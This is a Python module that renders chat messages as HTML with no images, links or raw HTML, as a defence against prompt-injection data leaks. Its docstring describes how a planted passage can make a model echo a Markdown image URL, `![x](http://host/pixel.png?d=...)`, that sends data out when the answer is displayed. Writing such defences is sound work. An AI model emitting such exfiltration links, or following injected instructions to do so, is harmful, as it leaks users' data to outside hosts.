"""Chat messages as HTML that can load nothing: Markdown formatting kept, remote content gone.

An answer is model output over documents anyone may have written, so it is untrusted: a
passage can make the model echo `![x](http://host/pixel.png?d=...)`, and a browser that
renders it sends that request, with whatever the URL carries, as soon as the answer shows.

The browser therefore gets no Markdown to interpret. The server renders each message with
markdown-it (CommonMark) with raw HTML off and the rules that produce requests or links
(images, inline links, autolinks, reference definitions) switched off, so their source is
shown as text, and the chat page shows the result as HTML (`render_markdown=False`), where
Gradio's sanitiser still runs. One parser, on the server, decides what is markup: escaping
the text for the browser's Markdown parser instead would have to reproduce its rules for code
spans exactly, and any disagreement would let an image through.
"""

from __future__ import annotations

import functools
import re

from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

# Every rule that can emit <img>, <a> or raw HTML. `linkify` (bare URLs) is off in the
# CommonMark preset and stays off.
_REMOTE_RULES = ["image", "link", "autolink", "reference", "html_inline", "html_block"]


@functools.cache
def _parser() -> MarkdownIt:
    return (
        MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True})
        .enable(["table", "strikethrough"])
        .disable(_REMOTE_RULES)
    )


def message_html(text: str) -> str:
    """`text` (Markdown) as HTML with formatting, code and tables, and no element that links
    or loads anything."""
    return _parser().render(text).strip()


def message_text(html: str) -> str:
    """A message the page shows, back as the plain text a conversation history needs (the
    page sends its messages back with each question). Text that is not HTML comes back as
    it is, less character references."""
    text = BeautifulSoup(html, "html.parser").get_text()
    return re.sub(r"\n{3,}", "\n\n", text).strip()
